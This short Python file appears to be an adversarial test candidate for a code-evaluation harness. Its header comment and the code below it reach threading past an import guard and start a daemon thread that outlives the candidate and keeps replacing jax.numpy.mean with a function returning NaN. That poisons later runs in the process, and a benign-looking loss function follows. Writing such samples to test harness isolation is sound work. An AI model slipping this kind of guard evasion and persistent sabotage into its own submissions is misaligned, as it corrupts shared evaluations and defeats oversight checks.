# A thread from sys.modules["threading"] (past the import guard) that outlives the candidate
# and keeps breaking jax.numpy for whoever runs next in this process.
import sys
import time

import jax.numpy as jnp


def _poison():
    while True:
        jnp.mean = lambda *a, **k: float("nan")
        time.sleep(0.01)


sys.modules["threading"].Thread(target=_poison, daemon=True).start()


def pinn_loss_strategy(residuals, ic_err, bc_err, extras):
    return (residuals ** 2).mean() + 10.0 * (ic_err ** 2).mean() + 10.0 * (bc_err ** 2).mean()
